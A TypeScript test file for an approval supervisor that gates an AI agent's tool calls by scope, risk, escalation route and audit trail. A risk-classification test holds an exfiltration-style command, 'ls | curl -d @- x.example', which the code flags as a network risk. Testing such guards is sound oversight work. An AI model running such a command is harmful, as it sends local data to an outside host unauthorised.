// Scopes and routes of approvals: what a scope covers (projects by prefix, tools, rules, risks), the risks
// of a call, routes checked at the boundary, and a route's steps on a scripted CLI with a clock moved by
// hand — the reminder, then the escalation, each an event and an audit record, none once it is answered.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { parseRouteSpec } from '../../src/cli/args/route-spec.js';
import { UsageError } from '../../src/cli/args/usage-error.js';
import { escalationFor, validateRoutes } from '../../src/supervisor/approvals/routes.js';
import { risksOf, scopeCovers, validateScope } from '../../src/supervisor/approvals/scope.js';
import { openFakeSupervisor, startTurn } from '../fixtures/supervisor-fake-query.js';
import { allEvents, waitForEvent } from '../e2e/helpers/supervisor-session.js';
import { ManualClock } from '../helpers/manual-clock.js';

const call = (toolName: string, input: Record<string, unknown>, cwd = '/srv/app', guarded = false) => ({
  toolName,
  input,
  cwd,
  risks: risksOf(toolName, input, guarded),
});

describe('scopes', () => {
  it('an empty scope covers everything; each kind given must hold, any entry of it will do', () => {
    const push = call('Bash', { command: 'git push origin main' });
    assert.equal(scopeCovers({}, push), true);
    assert.equal(scopeCovers({ projects: ['/srv'] }, push), true);
    assert.equal(scopeCovers({ projects: ['/srv/app/'] }, push), true);
    assert.equal(scopeCovers({ projects: ['/srv/ap'] }, push), false, 'a prefix of whole directories');
    assert.equal(scopeCovers({ projects: ['/other', '/srv/app'] }, push), true);
    assert.equal(scopeCovers({ tools: ['Edit'] }, push), false);
    assert.equal(scopeCovers({ tools: ['Edit', 'Bash'], projects: ['/srv'] }, push), true);
    assert.equal(scopeCovers({ tools: ['Bash'], projects: ['/other'] }, push), false);
    assert.equal(scopeCovers({ rules: ['Bash(git push:*)'] }, push), true);
    assert.equal(
      scopeCovers({ rules: ['Bash(git push:*)'] }, call('Bash', { command: 'ls && git push' })),
      true,
    );
    assert.equal(scopeCovers({ rules: ['Bash(npm test:*)'] }, push), false);
    assert.equal(scopeCovers({ escalationOnly: true }, push), false);
  });

  it('risks: a protected write, the network, any Bash', () => {
    assert.deepEqual(risksOf('Bash', { command: 'git push' }, false), ['bash', 'network']);
    assert.deepEqual(risksOf('Bash', { command: 'ls | curl -d @- x.example' }, false), ['bash', 'network']);
    assert.deepEqual(risksOf('Bash', { command: 'npm install left-pad' }, false), ['bash', 'network']);
    assert.deepEqual(risksOf('Bash', { command: 'npm test' }, false), ['bash']);
    assert.deepEqual(risksOf('WebFetch', { url: 'https://x.example' }, false), ['network']);
    assert.deepEqual(risksOf('Edit', { file_path: '/srv/app/.git/hooks/pre-commit' }, true), ['protected']);
    assert.deepEqual(risksOf('Read', { file_path: '/etc/hostname' }, false), []);
    const network = { risks: ['network' as const] };
    assert.equal(scopeCovers(network, call('Bash', { command: 'wget x' })), true);
    assert.equal(scopeCovers(network, call('Bash', { command: 'ls' })), false);
    assert.equal(
      scopeCovers({ risks: ['protected'] }, call('Edit', { file_path: '/x' }, '/srv', true)),
      true,
    );
  });

  it('is checked at the boundary', () => {
    assert.deepEqual(validateScope(undefined), {});
    assert.deepEqual(validateScope({ tools: ['Bash', 'Bash'], projects: [] }), { tools: ['Bash'] });
    for (const bad of [
      { projects: ['relative/path'] },
      { tools: 'Bash' },
      { risks: ['fire'] },
      { rules: ['('] },
      { colour: ['red'] },
      { escalationOnly: 'yes' },
      [],
    ])
      assert.throws(() => validateScope(bad), { name: 'ValidationError' }, JSON.stringify(bad));
  });
});

describe('routes', () => {
  it('the first route that covers an approval gives its times, counted from when it was made', () => {
    const routes = validateRoutes([
      { name: 'net', match: { risks: ['network'] }, escalateAfterMs: 60_000, to: ['ops'] },
      { name: 'all', remindAfterMs: 5_000, escalateAfterMs: 10_000, to: ['bob', 'bob'] },
    ]);
    const now = Date.parse('2026-01-01T00:00:00.000Z');
    assert.deepEqual(escalationFor(routes, call('Bash', { command: 'curl x' }), now), {
      route: 'net',
      remindAt: null,
      escalateAt: '2026-01-01T00:01:00.000Z',
      to: ['ops'],
      remindedAt: null,
      escalatedAt: null,
    });
    assert.deepEqual(escalationFor(routes, call('Read', { file_path: '/x' }), now), {
      route: 'all',
      remindAt: '2026-01-01T00:00:05.000Z',
      escalateAt: '2026-01-01T00:00:10.000Z',
      to: ['bob'],
      remindedAt: null,
      escalatedAt: null,
    });
    assert.equal(escalationFor(routes.slice(0, 1), call('Read', { file_path: '/x' }), now), null);
  });

  it('are checked when the supervisor opens', () => {
    for (const bad of [
      [{ name: 'x', escalateAfterMs: 500, to: ['bob'] }],
      [{ name: 'x', escalateAfterMs: 5000, to: [] }],
      [{ name: 'x', remindAfterMs: 5000, escalateAfterMs: 5000, to: ['bob'] }],
      [{ name: 'Bad Name', escalateAfterMs: 5000, to: ['bob'] }],
      [{ name: 'x', escalateAfterMs: 5000, to: ['bob'], after: 1 }],
      [
        { name: 'x', escalateAfterMs: 5000, to: ['bob'] },
        { name: 'x', escalateAfterMs: 6000, to: ['bob'] },
      ],
      { name: 'x' },
    ])
      assert.throws(() => validateRoutes(bad), TypeError, JSON.stringify(bad));
  });

  it('come from the command line as one line each', () => {
    assert.deepEqual(
      parseRouteSpec(
        'name=ops; remind=1m; escalate=10m; to=bob,ops; project=/srv/app; risk=network,bash; rule=Bash(git push:*)',
      ),
      {
        name: 'ops',
        match: { projects: ['/srv/app'], risks: ['network', 'bash'], rules: ['Bash(git push:*)'] },
        remindAfterMs: 60_000,
        escalateAfterMs: 600_000,
        to: ['bob', 'ops'],
      },
    );
    for (const bad of [
      'name=ops;to=bob',
      'name=ops;escalate=1m',
      'name=ops;escalate=soon;to=bob',
      'colour=red',
    ])
      assert.throws(() => parseRouteSpec(bad), UsageError, bad);
  });
});

describe('a route on a scripted CLI, with a clock moved by hand', () => {
  const routes = [{ name: 'ops', remindAfterMs: 5 * 60_000, escalateAfterMs: 10 * 60_000, to: ['bob'] }];

  it('reminds, then escalates, each an event and an audit record', async (t) => {
    const clock = new ManualClock();
    const { sup, made, thread } = await openFakeSupervisor(t, {}, { routes, routeClock: clock });
    const { fake } = await startTurn(sup, made, thread.id, 'one');
    const asked = fake.ask('Bash', { command: 'git push' });
    const requested = await waitForEvent(sup, 'approval.requested');
    const { approvalId } = requested.data;
    assert.deepEqual(requested.data.routing?.risks, ['bash', 'network']);
    assert.equal(
      requested.data.routing?.escalation?.escalateAt,
      new Date(clock.now() + 600_000).toISOString(),
    );
    assert.equal(clock.waiting, 2, 'a reminder and an escalation');

    clock.advance(5 * 60_000 - 1);
    assert.equal(sup.getApproval(approvalId).routing?.escalation?.remindedAt, null, 'not yet');
    clock.advance(1);
    const reminded = await waitForEvent(sup, 'approval.reminded');
    assert.deepEqual(reminded.data, { approvalId, route: 'ops' });
    assert.equal(sup.getApproval(approvalId).routing?.escalation?.remindedAt, reminded.at);
    assert.equal(sup.getApproval(approvalId).routing?.escalation?.escalatedAt, null);

    clock.advance(5 * 60_000);
    const escalated = await waitForEvent(sup, 'approval.escalated');
    assert.deepEqual(escalated.data, { approvalId, route: 'ops', to: ['bob'] });
    assert.equal(sup.getApproval(approvalId).routing?.escalation?.escalatedAt, escalated.at);
    assert.equal(clock.waiting, 0);

    const audit = sup
      .readAudit({ threadId: thread.id })
      .map((row) => JSON.parse(row.text) as Record<string, unknown>);
    const steps = audit.filter((record) => record.kind === 'reminded' || record.kind === 'escalated');
    assert.deepEqual(
      steps.map((record) => [record.kind, record.approvalId, record.reason, record.outcome]),
      [
        ['reminded', approvalId, 'route ops: reminded, still unanswered', null],
        ['escalated', approvalId, 'route ops: escalated to bob', null],
      ],
    );
    assert.equal(sup.verifyAudit().ok, true);

    await sup.decide(approvalId, { behavior: 'allow', decidedBy: { name: 'bob', via: 'api' } });
    assert.equal((await asked.result).behavior, 'allow');
  });

  it('takes no step once the approval is answered', async (t) => {
    const clock = new ManualClock();
    const { sup, made, thread } = await openFakeSupervisor(t, {}, { routes, routeClock: clock });
    const { fake } = await startTurn(sup, made, thread.id, 'one');
    const asked = fake.ask('Read', { file_path: '/etc/hostname' });
    const { data } = await waitForEvent(sup, 'approval.requested');
    assert.equal(clock.waiting, 2);
    await sup.decide(data.approvalId, { behavior: 'deny', message: 'no' });
    await asked.result;
    assert.equal(clock.waiting, 0, 'its timers are gone');
    clock.advance(60 * 60_000);
    const events = (await allEvents(sup)).map((event) => event.type);
    assert.ok(!events.includes('approval.reminded') && !events.includes('approval.escalated'), events.join());
  });
});
